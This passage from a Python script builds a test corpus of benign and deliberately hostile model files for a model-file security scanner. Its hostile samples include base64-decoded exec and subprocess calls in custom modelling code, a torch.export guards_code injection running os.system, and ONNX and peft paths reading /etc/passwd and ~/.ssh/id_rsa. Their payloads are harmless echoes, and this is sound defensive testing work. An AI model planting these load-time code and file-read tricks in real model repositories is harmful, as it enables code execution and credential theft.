               rules=rules)


def build_hostile_shards(corpus: Corpus) -> None:
    s1, s2 = "model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"
    _shard_folder(corpus, "hostile/shards-escape", "index names a shard outside the model folder",
                  expect("WS-SHD-002"), {"a": s1, "b": "../../outside-00002-of-00002.safetensors"}, {s1: {"a": 2}})
    _shard_folder(corpus, "hostile/shards-duplicate-tensor", "one tensor stored in two shards",
                  expect("WS-SHD-006"), {"a": s1, "b": s2}, {s1: {"a": 2, "b": 3}, s2: {"b": 3}})
    _shard_folder(corpus, "hostile/shards-unlisted-tensor", "a shard holds a tensor the index does not name",
                  expect("WS-SHD-007"), {"a": s1, "b": s2}, {s1: {"a": 2}, s2: {"b": 3, "extra": 1}}, 24)
    _shard_folder(corpus, "hostile/shards-missing", "the index names a shard that is not there",
                  expect("WS-SHD-003"), {"a": s1, "b": s2}, {s1: {"a": 2}})


def build_hostile_repo(corpus: Corpus) -> None:
    def add_json(rel: str, value: Any, technique: str, rules: list[Expect]) -> None:
        corpus.add(rel, (json.dumps(value, indent=2) + "\n").encode(), technique, rules=rules)

    add_json("hostile/repo-remote-code/config.json",
             {"architectures": ["LlamaForCausalLM"], "model_type": "llama",
              "auto_map": {"AutoModelForCausalLM": "attacker/helpers--modeling_llama.LlamaForCausalLM"}},
             "auto_map pulls modelling code from another repository", expect("WS-REPO-002"))
    folder = "hostile/repo-custom-code"
    add_json(f"{folder}/config.json",
             {"architectures": ["TinyForCausalLM"], "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
             "auto_map points at code shipped in the repository", expect("WS-REPO-001"))
    code = (
        "import base64\nimport subprocess\n\nimport torch\n\n\n"
        "class TinyModel(torch.nn.Module):\n"
        "    def __init__(self, config):\n        super().__init__()\n"
        "        subprocess.run(['echo', 'wscan-corpus-hostile-sample'])\n"
        "        exec(base64.b64decode(b'cHJpbnQoJ3dzY2FuIGNvcnB1cyBob3N0aWxlIHNhbXBsZScp'))\n"
    )
    corpus.add(f"{folder}/modeling_tiny.py", code.encode(), "custom modelling code that starts a process and runs "
               "decoded code", rules=expect("WS-CODE-001", "WS-CODE-002", "WS-CODE-005"))
    mlflow = "hostile/mlflow-model-from-code"
    corpus.add(f"{mlflow}/MLmodel",
               b"flavors:\n  python_function:\n    code: null\n    loader_module: mlflow.pyfunc.loaders.code_model\n"
               b"    model_code_path: /tmp/tmpxi7yt4tm/model.py\n    python_version: 3.11.7\nmlflow_version: 3.17.2\n",
               "MLflow models from code: mlflow.pyfunc.load_model runs model.py", rules=expect("WS-REPO-009"))
    process = "import subprocess\n\nsubprocess.run(['echo', 'wscan-corpus-hostile-sample'])\n"
    corpus.add(f"{mlflow}/model.py", process.encode(), "the model file MLflow runs on load: it starts a process",
               rules=expect("WS-CODE-001", "WS-CODE-002"))
    diffusers = "hostile/diffusers-custom-pipeline"
    add_json(f"{diffusers}/model_index.json", {"_class_name": ["pipeline_tiny", "TinyPipeline"],
                                               "_diffusers_version": "0.30.0"},
             "diffusers before 0.38 imports pipeline_tiny.py from the folder without trust_remote_code",
             expect("WS-REPO-009"))
    corpus.add(f"{diffusers}/pipeline_tiny.py", process.encode(), "the pipeline module diffusers imports: it "
               "starts a process", rules=expect("WS-CODE-001", "WS-CODE-002"))
    add_json("hostile/repo-template-injection/tokenizer_config.json",
             {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": TEMPLATE_ESCAPE},
             "chat template that escapes the Jinja sandbox (CVE-2024-34359 shape)",
             expect("WS-TPL-001", "WS-TPL-002", "WS-TPL-003"))
    corpus.add("hostile/repo-template-file/chat_template.jinja",
               b"{% for m in messages %}{{ m['content'] }}{% endfor %}{{ x['__cla' ~ 'ss__'] }}\n",
               "chat_template.jinja assembling a dunder name from pieces", rules=expect("WS-TPL-001", "WS-TPL-005"))
    corpus.add("hostile/repo-duplicate-keys/tokenizer_config.json",
               b'{"chat_template": "{{ messages[0].content }}", "chat_template": "{{ self.__init__ }}"}\n',
               "duplicate chat_template keys: reviewers read the first, Python the last",
               rules=expect("WS-REPO-005"))
    # Keys the loaders act on with no trust_remote_code (reviews 16 to 19 proved each with the real loader).
    plugin = json.dumps({"inputTextPlugin": [{"class": "/root/.cache/huggingface/hub/models--x--y/blobs/0a1b"}]})
    add_json("hostile/tokenizer-sudachi-plugin/tokenizer_config.json",
             {"tokenizer_class": "BertJapaneseTokenizer", "word_tokenizer_type": "sudachi",
              "sudachi_kwargs": {"sudachi_config_path": plugin}},
             "an inline Sudachi config whose plugin is a shared library: sudachi dlopens it as the tokenizer is built",
             expect("WS-REPO-020", "WS-REPO-013"))
    add_json("hostile/processor-tesseract-options/preprocessor_config.json",
             {"image_processor_type": "LayoutLMv3ImageProcessor", "apply_ocr": True,
              "tesseract_config": "-c debug_file=/tmp/wscan-corpus-hostile-sample"},
             "Tesseract options in a LayoutLMv3 image processor: debug_file writes a file anywhere when it runs",
             expect("WS-REPO-019"))
    add_json("hostile/open-clip-remote-code/open_clip_config.json",
             {"model_cfg": {"embed_dim": 16, "text_cfg": {"hf_tokenizer_name": "bert-base-uncased",
                                                          "tokenizer_kwargs": {"trust_remote_code": True}}}},
             "open_clip hands tokenizer_kwargs to AutoTokenizer as they are: the file opts in to remote code",
             expect("WS-REPO-021"))
    add_json("hostile/optimum-component-import/model_index.json",
             {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"],
              "scheduler": ["antigravity", "PNDMScheduler"]},
             "optimum's ORT pipelines import a component's library whatever it is (antigravity runs on import)",
             expect("WS-REPO-022"))
    add_json("hostile/adapter-mpt-init-path/adapter_config.json",
             {"peft_type": "MULTITASK_PROMPT_TUNING", "prompt_tuning_init": "AVERAGE_SOURCE_TASKS",
              "prompt_tuning_init_state_dict_path": "../../.ssh/id_rsa", "base_model_name_or_path": "gpt2"},
             "peft opens prompt_tuning_init_state_dict_path as given while it builds the adapter",
             expect("WS-REPO-013"))


def build_benign_safetensors(corpus: Corpus) -> None:
    import torch
    from safetensors.torch import save_file

    seed_everything()
    dtypes = [torch.float64, torch.float32, torch.float16, torch.bfloat16, torch.int64, torch.int32, torch.int16,
              torch.int8, torch.uint8, torch.bool, torch.float8_e4m3fn, torch.float8_e5m2, torch.uint16,
              torch.uint32, torch.uint64]
    tensors = {f"t_{str(d).split('.')[-1]}": torch.ones(2, 3).to(d) for d in dtypes}
    tensors["empty"] = torch.zeros(0, 4)
    tensors["scalar"] = torch.tensor(3.5)
    save_file(tensors, corpus.record("benign/safetensors-every-dtype.safetensors",
                                     "safetensors save_file: every dtype torch writes, an empty and a scalar tensor,"
                                     " __metadata__", made_by="safetensors.torch.save_file"),
              metadata={"format": "pt"})  # one key: safetensors writes metadata in hash order


def build_benign_repo(corpus: Corpus) -> None:
    """A folder laid out like a Hugging Face model repository, written by transformers and tokenizers."""
    import torch
    from tokenizers import Tokenizer, models, pre_tokenizers
    from transformers import GenerationConfig, LlamaConfig, LlamaForCausalLM, PreTrainedTokenizerFast

    seed_everything()
    folder = corpus.out / "benign/llama-tiny"
    config = LlamaConfig(vocab_size=32, hidden_size=16, intermediate_size=32, num_hidden_layers=2,
                         num_attention_heads=2, num_key_value_heads=1, max_position_embeddings=64)
    model = LlamaForCausalLM(config).to(torch.bfloat16)
    model.generation_config = GenerationConfig(do_sample=True, temperature=0.7, bos_token_id=1, eos_token_id=2)
    model.save_pretrained(folder, max_shard_size="8KB")
    vocab = {t: i for i, t in enumerate(["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "hello", "world"])}
    backend = Tokenizer(models.WordLevel(vocab, unk_token="<unk>"))
    backend.pre_tokenizer = pre_tokenizers.Whitespace()
    tokenizer = PreTrainedTokenizerFast(tokenizer_object=backend, bos_token="<s>", eos_token="</s>", unk_token="<unk>")
    tokenizer.chat_template = CHATML
    tokenizer.save_pretrained(folder)
    (folder / "README.md").write_text("---\nlicense: apache-2.0\nlibrary_name: transformers\n---\n\n# llama-tiny\n\n"
                                      "A two-layer Llama for tests.\n", encoding="utf-8")
    for child in sorted(folder.iterdir()):
        corpus.record(f"benign/llama-tiny/{child.name}", "Hugging Face repository layout: sharded safetensors, "
                      "tokenizer with a ChatML template, generation config, model card",
                      made_by="transformers save_pretrained / tokenizers")

    lora = corpus.out / "benign/lora-adapter"
    lora.mkdir(parents=True, exist_ok=True)
    from safetensors.torch import save_file

    adapter = {"peft_type": "LORA", "base_model_name_or_path": "llama-tiny", "r": 4, "lora_alpha": 8,
               "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM"}
    (lora / "adapter_config.json").write_text(json.dumps(adapter, indent=2) + "\n", encoding="utf-8")
    corpus.record("benign/lora-adapter/adapter_config.json", "LoRA adapter config (the fields peft writes)")
    weights = {"base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight": torch.zeros(4, 16),
               "base_model.model.model.layers.0.self_attn.q_proj.lora_B.weight": torch.zeros(16, 4)}
    save_file(weights, corpus.record("benign/lora-adapter/adapter_model.safetensors", "LoRA adapter weights",
                                     made_by="safetensors.torch.save_file"))


# --- GGUF ------------------------------------------------------------------------------------------

GGUF_STRING, GGUF_U32 = 8, 4


def _gguf_str(text: str | bytes, length: int | None = None) -> bytes:
    data = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(data) if length is None else length) + data


def _gguf_kv_str(key: str, value: str, length: int | None = None) -> bytes:
    return _gguf_str(key) + struct.pack("<I", GGUF_STRING) + _gguf_str(value, length)


def _gguf_info(name: str, dims: list[int], dtype: int = 0, offset: int = 0) -> bytes:
    return (_gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
            + struct.pack("<IQ", dtype, offset))


def gguf_bytes(kvs: list[bytes], infos: list[bytes], data: bytes = b"", n_kv: int | None = None) -> bytes:
    """A version 3 GGUF: header, key/values, tensor infos, padding to 32, data section."""
    head = b"GGUF" + struct.pack("<IQQ", 3, len(infos), len(kvs) if n_kv is None else n_kv)
    head += b"".join(kvs) + b"".join(infos)
    return head + bytes(-len(head) % 32) + data


def build_hostile_gguf(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
    arch = _gguf_kv_str("general.architecture", "llama")
    f32x2 = _gguf_info("a", [2])
    cases: list[tuple[str, bytes, str, list[Expect]]] = [
        ("template-injection", gguf_bytes([arch, _gguf_kv_str("tokenizer.chat_template", TEMPLATE_ESCAPE)], [f32x2],
                                          bytes(8)),
         "tokenizer.chat_template escaping the Jinja sandbox", expect("WS-TPL-001", "WS-TPL-002")),
        ("string-length-2-63", gguf_bytes([arch, _gguf_kv_str("general.name", "x", length=1 << 63)], []),
         "a metadata string declaring 2^63 bytes (a loader allocating it fails or worse)", expect("WS-GGUF-008")),
        ("kv-count-absurd", gguf_bytes([arch], [], n_kv=1 << 40), "2^40 key/value pairs in a tiny file",
         expect("WS-GGUF-006")),
        ("unknown-dtype", gguf_bytes([arch], [_gguf_info("a", [2], dtype=250)], bytes(8)),
         "tensor type no GGML build knows", expect("WS-GGUF-021")),
        ("tensor-out-of-bounds", gguf_bytes([arch], [_gguf_info("a", [1 << 20])], bytes(8)),
         "tensor data past the end of the file", expect("WS-GGUF-024")),
        ("overlapping-tensors", gguf_bytes([arch], [_gguf_info("a", [8]), _gguf_info("b", [8])], bytes(32)),
         "two tensors share the same bytes", expect("WS-GGUF-025")),
        ("pickle-after-tensors", gguf_bytes([arch], [f32x2], bytes(32) + payload),
         "a pickle appended after the tensor data", expect("WS-GGUF-027") + expect(*rules)),
        ("template-built-keys", gguf_bytes([arch, _gguf_kv_str("tokenizer.chat_template", TEMPLATE_BUILT_KEYS)],
                                           [f32x2], bytes(8)),
         "a chat template that spells __init__ and __globals__ at render time ('%c'|format(95)) and looks them up: "
         "runs os.popen under an unsandboxed renderer", expect("WS-TPL-005")),
    ]
    for name, data, technique, expected in cases:
        corpus.add(f"hostile/gguf-{name}.gguf", data, f"GGUF: {technique}", rules=expected)


def build_benign_gguf(corpus: Corpus) -> None:
    import numpy as np
    from gguf import GGMLQuantizationType, GGUFWriter, LlamaFileType
    from gguf.quants import quantize

    template = (Path(__file__).resolve().parents[1] / "tests/data/chat_templates/"
                "meta-llama-Llama-3.1-8B-Instruct.jinja").read_text(encoding="utf-8")
    path = corpus.record("benign/tiny-llama-q8_0.gguf", "gguf GGUFWriter: F32, F16 and Q8_0 tensors, a vocabulary, "
                         "the real Llama 3.1 chat template", made_by="gguf.GGUFWriter")
    writer = GGUFWriter(str(path), "llama")
    writer.add_name("tiny-llama")
    writer.add_file_type(LlamaFileType.MOSTLY_Q8_0)
    writer.add_context_length(128)
    writer.add_chat_template(template)
    writer.add_token_list(["<unk>", "<s>", "</s>", "hello", "world"])
    writer.add_token_scores([0.0, 0.0, 0.0, -1.0, -2.0])
    rng = np.random.default_rng(SEED)
    writer.add_tensor("token_embd.weight", rng.normal(size=(5, 32)).astype(np.float32))
    writer.add_tensor("output_norm.weight", np.ones(32, dtype=np.float16))
    block = quantize(rng.normal(size=(4, 64)).astype(np.float32), GGMLQuantizationType.Q8_0)
    writer.add_tensor("blk.0.attn_q.weight", block, raw_shape=block.shape, raw_dtype=GGMLQuantizationType.Q8_0)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


# --- ONNX ------------------------------------------------------------------------------------------


def _onnx_mlp(external: bool = False) -> Any:
    """A two-layer MLP built with onnx.helper (the initializers can live in external data)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(SEED)
    w1 = numpy_helper.from_array(rng.normal(size=(4, 8)).astype(np.float32), "w1")
    w2 = numpy_helper.from_array(rng.normal(size=(8, 2)).astype(np.float32), "w2")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w1"], ["h"]), helper.make_node("Relu", ["h"], ["r"]),
         helper.make_node("MatMul", ["r", "w2"], ["y"])],
        "mlp", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], [w1, w2])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="wscan-corpus")
    model.ir_version = 8
    onnx.checker.check_model(model)
    return model


def build_benign_onnx(corpus: Corpus) -> None:
    import numpy as np
    import onnx

    onnx.save_model(_onnx_mlp(), corpus.record("benign/onnx-mlp.onnx", "onnx.helper MLP, weights inside",
                                               made_by="onnx.save_model"))
    typed = _onnx_mlp()
    rng = np.random.default_rng(SEED)
    values = [round(float(v), 4) for v in rng.normal(size=64 * 32)]  # 8 KiB of float_data: counted, not kept
    typed.graph.initializer.append(onnx.helper.make_tensor("embedding", onnx.TensorProto.FLOAT, [64, 32], values))
    onnx.checker.check_model(typed)
    onnx.save_model(typed, corpus.record("benign/onnx-typed-data.onnx", "onnx.helper MLP plus an embedding given "
                                         "as a Python list (float_data)", made_by="onnx.helper.make_tensor"))
    folder = corpus.out / "benign/onnx-external-data"
    folder.mkdir(parents=True, exist_ok=True)
    onnx.save_model(_onnx_mlp(), str(folder / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
    for name in ("model.onnx", "weights.bin"):
        corpus.record(f"benign/onnx-external-data/{name}", "onnx.helper MLP saved with external data",
                      made_by="onnx.save_model(save_as_external_data=True)")


def build_hostile_onnx(corpus: Corpus) -> None:
    from onnx import helper

    def external(location: str) -> Any:
        model = _onnx_mlp()
        tensor = model.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = 1  # EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "128")):
            tensor.external_data.add(key=key, value=value)
        return model

    cases: list[tuple[str, Any, str, list[Expect]]] = [
        ("external-data-etc-passwd", external("/etc/passwd"), "external data at an absolute path: the loader reads "
         "/etc/passwd into a tensor", expect("WS-ONNX-004")),
        ("external-data-traversal", external("../../../../home/user/.ssh/id_rsa"), "external data climbing out of "
         "the model folder", expect("WS-ONNX-004")),
    ]
    custom = _onnx_mlp()
    custom.graph.node.append(helper.make_node("RunShell", ["y"], ["z"], domain="evil.ops"))
    custom.opset_import.append(helper.make_opsetid("evil.ops", 1))
    cases.append(("custom-op-domain", custom, "a custom operator domain: loading needs a native library",
                  expect("WS-ONNX-012")))
    template = _onnx_mlp()
    template.metadata_props.add(key="chat_template", value=TEMPLATE_ESCAPE)
    cases.append(("metadata-template", template, "a Jinja sandbox escape in metadata_props",
                  expect("WS-TPL-001", "WS-TPL-002")))
    for name, model, technique, expected in cases:
        corpus.add(f"hostile/onnx-{name}.onnx", model.SerializeToString(), f"ONNX: {technique}", rules=expected)
    disguised = b"\xa0\x06\x01" + external("/etc/passwd").SerializeToString()  # an unknown field 100 first
    corpus.add("hostile/onnx-disguised-external-data.onnx", disguised, "ONNX: an unknown field before ir_version hides "
               "the model from format sniffing (onnx and onnxruntime still load it); external data at /etc/passwd",
               rules=expect("WS-ONNX-019", "WS-ONNX-004"))


# --- PyTorch 2 program archives ----------------------------------------------------------------------------


def _pt2(graph_change: Callable[[dict[str, Any]], None], extra: list[tuple[str, bytes]] | None = None) -> bytes:
    """A torch.export.save archive (the JSON members of a real one, tests/data/pt2), its graph edited."""
    source = Path(__file__).resolve().parents[1] / "tests" / "data" / "pt2"
    program = json.loads((source / "model.json").read_text(encoding="utf-8"))
    graph_change(program)
    weights = json.loads((source / "model_weights_config.json").read_text(encoding="utf-8"))
    members = [("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/.data/version", b"6\n"),
               ("m/byteorder", b"little"), ("m/models/model.json", json.dumps(program).encode()),
               ("m/data/weights/model_weights_config.json", json.dumps(weights).encode()),
               ("m/data/constants/model_constants_config.json", (source / "model_constants_config.json").read_bytes())]
    members += [(f"m/data/weights/{entry['path_name']}", bytes(64)) for entry in weights["config"].values()]
    return zip_bytes(members + (extra or []))


def build_hostile_pt2(corpus: Corpus) -> None:
    def guard(program: dict[str, Any]) -> None:
        program["guards_code"] = ["True #\n, 'ok')\nimport os; os.system('echo wscan-corpus-hostile-sample')\n"
                                  "def __(*args):\n  torch._assert(True"]

    def read_file(program: dict[str, Any]) -> None:
        program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.ops.aten.from_file.default"

    corpus.add("hostile/pt2-guard-code.pt2", _pt2(guard), "torch.export archive whose guards_code breaks out of its "
               "expression: ExportedProgram.module() execs the rest", rules=expect("WS-PT2-003"))
    corpus.add("hostile/pt2-from-file.pt2", _pt2(read_file), "torch.export archive whose graph calls aten.from_file: "
               "running the program reads a file the graph names", rules=expect("WS-PT2-002"))
    library = b"\x7fELF\x02\x01\x01" + bytes(57)
    corpus.add("hostile/pt2-aoti-library.pt2",
               _pt2(lambda _: None, [("m/data/aotinductor/model/x.wrapper.so", library)]),
               "AOTInductor package: aoti_load_package loads the shared library it carries", rules=expect("WS-PT2-001"))


# --- Keras and TensorFlow ------------------------------------------------------------------------------
# The builders live with the scanner tests (one definition of each hand-made shape); imported from there.


def _test_builders(module: str) -> Any:
    import importlib

    root = str(Path(__file__).resolve().parents[1])
    if root not in sys.path:
        sys.path.insert(0, root)
    os.environ.setdefault("KERAS_BACKEND", "torch")
    builders = importlib.import_module(f"tests.scanners.{module}")
    if module == "test_keras":
        import keras

        # Keras numbers layer names per process and draws weights from its own generator: reset both before
        # every use, so a sample's bytes do not depend on what this process built before it.
        keras.backend.clear_session()
        keras.utils.set_random_seed(SEED)
        builders._sequential_archive.cache_clear()
    return builders


def build_benign_keras_tf(corpus: Corpus) -> None:
    with fixed_zip_clock():
        _build_benign_keras_tf(corpus)


def build_hostile_keras_tf(corpus: Corpus) -> None:
    with fixed_zip_clock():
        _build_hostile_keras_tf(corpus)


def _normalize_keras(path: Path) -> None:
    """Keras stamps a save time and Python object ids into .keras files: pin them so rebuilds match."""
    import re

    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    ids: dict[str, str] = {}

    def stable(match: re.Match[bytes]) -> bytes:
        return b'"shared_object_id": ' + ids.setdefault(match.group(1).decode(), str(len(ids) + 1)).encode()

    with fixed_zip_clock(), zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            if name == "config.json":
                data = re.sub(rb'"shared_object_id": (\d+)', stable, data)
            elif name == "metadata.json":
                data = re.sub(rb'"date_saved": "[^"]*"', b'"date_saved": "2024-01-01@00:00:00"', data)
            archive.writestr(name, data)


TF_DATA = Path(__file__).resolve().parents[1] / "tests" / "data" / "tensorflow"  # TensorFlow-made files
TF_KERAS_DATA = TF_DATA.parent / "tf_keras"  # tf_keras-made files (tests/data/tf_keras/make.py)


FLAX_DATA = TF_DATA.parent / "flax"  # files Flax and transformers wrote (tools/record_flax_files.py)


def build_benign_flax(corpus: Corpus) -> None:
    made = "transformers 4.57 FlaxBertModel.save_pretrained (tests/data/flax, tools/record_flax_files.py)"
    for name, technique in [
        ("config.json", "a tiny BERT's config, saved with its Flax weights"),
        ("flax_model.msgpack", "its Flax weights: a msgpack state dict of arrays (flax.serialization.to_bytes)"),
    ]:
        corpus.add(f"benign/flax-bert-tiny/{name}", (FLAX_DATA / "bert-tiny-flax" / name).read_bytes(), technique,
                   made_by=made)


def build_hostile_flax(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
    import msgpack

    state = msgpack.unpackb((FLAX_DATA / "bert-tiny-flax" / "flax_model.msgpack").read_bytes(), raw=False)
    state["extra"] = msgpack.ExtType(42, payload)  # msgpack_restore hands it to the state as opaque bytes
    corpus.add("hostile/flax-pickle-in-extension.msgpack", msgpack.packb(state), "Flax checkpoint with a pickle in "
               "an extension value Flax does not define (loaded as opaque bytes)", rules=expect("WS-FLAX-006", *rules))


TFLITE_DATA = TF_DATA.parent / "tflite"  # models TensorFlow's converter wrote (tools/record_tflite_files.py)


def build_benign_tflite(corpus: Corpus) -> None:
    made = "tf.lite.TFLiteConverter of TensorFlow 2.21 (tests/data/tflite, tools/record_tflite_files.py)"
    corpus.add("benign/tflite-dense.tflite", (TFLITE_DATA / "dense.tflite").read_bytes(),
               "TensorFlow Lite model: a dense layer with ReLU", made_by=made)
    corpus.add("benign/tflite-with-labels.tflite", (TFLITE_DATA / "dense-associated-files.tflite").read_bytes(),
               "the same with its labels appended as a zip, as the metadata writer packs associated files",
               made_by=made)


def build_hostile_tflite(corpus: Corpus) -> None:
    data = (TFLITE_DATA / "hostile" / "flex-read-write.tflite").read_bytes()
    corpus.add("hostile/tflite-flex-read-write.tflite", data, "TensorFlow Lite model converted with SELECT_TF_OPS "
               "from tf.io.read_file and tf.io.write_file: tensorflow 2.15's tf.lite.Interpreter read /etc/hostname "
               "and wrote a file at invoke() (Flex ops)", rules=expect("WS-TF-002", "WS-TFL-004"))


OPENVINO_DATA = TF_DATA.parent / "openvino"  # IRs ov.save_model wrote (tools/record_openvino_files.py)


def build_benign_openvino(corpus: Corpus) -> None:
    made = "ov.save_model of OpenVINO 2026.4 (tests/data/openvino, tools/record_openvino_files.py)"
    for suffix, technique in ((".xml", "OpenVINO IR: a dense layer with ReLU, f32 and f16 constants"),
                              (".bin", "its weights, read at the offsets the XML gives")):
        corpus.add(f"benign/openvino-dense/openvino_model{suffix}", (OPENVINO_DATA / f"dense{suffix}").read_bytes(),
                   technique, made_by=made)


def build_hostile_openvino(corpus: Corpus) -> None:
    source = OPENVINO_DATA / "hostile" / "const-past-end"
    corpus.add("hostile/openvino-const-past-end/openvino_model.xml", source.with_suffix(".xml").read_bytes(),
               "OpenVINO IR whose constant reads past the end of its weights file (read_model: Incorrect weights in "
               "bin file!)", rules=expect("WS-OV-002"))
    corpus.add("hostile/openvino-const-past-end/openvino_model.bin", source.with_suffix(".bin").read_bytes(),
               "its weights file", part_of="hostile/openvino-const-past-end/openvino_model.xml")


def _build_benign_keras_tf(corpus: Corpus) -> None:
    keras_tests = _test_builders("test_keras")
    tf_tests = _test_builders("test_tf_graph")
    seed_everything()
    functional = corpus.record("benign/keras-functional.keras", "Keras 3 functional model (Conv2D, "
                               "BatchNormalization, Dropout, Dense), compiled", made_by="keras.Model.save")
    _normalize_keras(keras_tests.benign_keras_file(functional, "functional"))
    keras_tests.benign_keras_file(corpus.record("benign/keras-sequential.h5", "Keras 3 Sequential model saved as "
                                                "legacy HDF5", made_by="keras.Model.save"), "sequential")
    corpus.add("benign/tf-frozen-graph.pb", tf_tests.benign_graph_def(), "frozen GraphDef: constants and a sum",
               made_by="protobuf GraphDef message")
    corpus.add("benign/tf-saved-model/saved_model.pb", tf_tests.benign_saved_model(),
               "SavedModel with the save/restore ops every SavedModel has", made_by="protobuf SavedModel message")
    made = "tensorflow 2.21 (tests/data/tensorflow/make.py)"
    for rel, technique in [
        ("saved-model-text/saved_model.pbtxt", "TF1 SavedModel written as protobuf text, with two Savers"),
        ("saved-model-text/variables/variables.index", "its variables (index table)"),
        ("saved-model-text/variables/variables.data-00000-of-00001", "its variables (data shard)"),
        ("tf1-checkpoint/model.ckpt.meta", "TF1 checkpoint: binary MetaGraphDef with a Saver"),
        ("tf1-checkpoint/model.ckpt.index", "its index table"),
        ("tf1-checkpoint/model.ckpt.data-00000-of-00001", "its data shard"),
        ("graph.pbtxt", "GraphDef text of a graph holding a Saver, as Estimator writes it"),
        ("model-text.meta", "TF1 MetaGraphDef written as text"),
    ]:
        corpus.add(f"benign/tf-written/{rel}", (TF_DATA / "benign" / rel).read_bytes(), technique, made_by=made)
    made = "tf_keras 2.21 (tests/data/tf_keras/make.py)"
    for rel, technique in [
        ("tfops.h5", "tf.keras 2 functional model using TensorFlow ops on Keras tensors (TFOpLambda), legacy HDF5"),
        ("tfops-savedmodel/keras_metadata.pb", "the same model's Keras metadata from a SavedModel"),
        ("rnn.keras", "tf.keras 2 Embedding, LSTM, GRU and BatchNormalization model, tf_keras' .keras archive"),
    ]:
        corpus.add(f"benign/tf-keras/{rel}", (TF_KERAS_DATA / "benign" / rel).read_bytes(), technique, made_by=made)


def _build_hostile_keras_tf(corpus: Corpus) -> None:
    keras_tests = _test_builders("test_keras")
    tf_tests = _test_builders("test_tf_graph")
    lambda_file = corpus.record("hostile/keras-lambda-bytecode.keras", "Keras Lambda layer carrying marshalled "
                                "bytecode (CVE-2024-3660)", rules=expect("WS-KERAS-001"))
    _normalize_keras(keras_tests.lambda_keras_file(lambda_file))
    system_file = corpus.record("hostile/keras-os-system-layer.keras", "config.json naming os.system as a layer "
                                "(CVE-2025-1550)", rules=expect("WS-KERAS-002"))
    _normalize_keras(keras_tests.cve_2025_1550_keras_file(system_file))
    keras_tests.lambda_h5_file(corpus.record("hostile/keras-lambda-bytecode.h5", "Keras 2 Lambda layer with bytecode "
                                             "in a legacy HDF5 model_config", rules=expect("WS-KERAS-001")))
    corpus.add("hostile/tf-graph-readfile-pyfunc.pb", tf_tests.hostile_graph_def(), "frozen GraphDef that reads "
               "/etc/passwd, writes a file and calls a Python callback",
               rules=expect("WS-TF-001", "WS-TF-002", "WS-TF-012"))
    corpus.add("hostile/tf-saved-model/saved_model.pb", tf_tests.hostile_saved_model(), "SavedModel whose serving "
               "function writes a file and runs EagerPyFunc", rules=expect("WS-TF-001", "WS-TF-002", "WS-TF-012"))
    # Written by TensorFlow, which also proved that loading each one writes a file (tests/data/tensorflow/make.py).
    corpus.add("hostile/tf-saved-model-text/saved_model.pbtxt",
               (TF_DATA / "hostile/saved-model-text/saved_model.pbtxt").read_bytes(), "SavedModel as protobuf text "
               "(read when saved_model.pb is absent) whose main_op writes a file on load", rules=expect("WS-TF-002"))
    corpus.add("hostile/tf1-checkpoint-meta/model.ckpt.meta",
               (TF_DATA / "hostile/tf1-checkpoint/model.ckpt.meta").read_bytes(), "TF1 checkpoint whose restore op "
               "(run by import_meta_graph + Saver.restore) depends on WriteFile", rules=expect("WS-TF-002"))
    # Written by tf_keras, which also proved that loading and running each one runs the payload.
    corpus.add("hostile/tf-keras-lambda-savedmodel/keras_metadata.pb",
               (TF_KERAS_DATA / "hostile/lambda-savedmodel/keras_metadata.pb").read_bytes(), "SavedModel Keras "
               "metadata whose Lambda layer carries bytecode that tf_keras.models.load_model revives",
               rules=expect("WS-KERAS-001"))
    corpus.add("hostile/tf-keras-read-file.keras", (TF_KERAS_DATA / "hostile/read-file.keras").read_bytes(),
               "tf.keras 2 model whose TFOpLambda calls tf.io.read_file: its output is a file's content",
               rules=expect("WS-KERAS-003"))


# --- Hydra / NeMo configs --------------------------------------------------------------------------


def build_benign_configs(corpus: Corpus) -> None:
    tests = _test_builders("test_config_targets")
    corpus.add("benign/nemo-asr.nemo", tests.nemo_archive(tests.omegaconf_yaml(tests.NEMO_CONFIG)),
               "NeMo-style .nemo: a tar of model_config.yaml (NeMo and Hydra targets) and a torch state dict",
               made_by="OmegaConf.to_yaml, torch.save, tarfile")  # fmt: skip
    corpus.add("benign/hydra-training.yaml", tests.omegaconf_yaml(tests.HYDRA_TRAINING),
               "Hydra training config: torch and Lightning targets", made_by="OmegaConf.to_yaml")
    corpus.add("benign/speechbrain-ecapa/hyperparams.yaml",
               b"n_mels: 80\ncompute_features: !new:speechbrain.lobes.features.Fbank\n    n_mels: !ref <n_mels>\n"
               b"embedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: !ref <n_mels>\n"
               b"    lin_neurons: 192\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n"
               b"    loadables:\n        embedding_model: !ref <embedding_model>\n",
               "SpeechBrain speaker-embedding hyperparams.yaml: HyperPyYAML tags naming SpeechBrain classes",
               made_by="hand-written in the form of SpeechBrain's published spkrec-ecapa hyperparams")
    corpus.add("benign/diffusers-index/model_index.json",
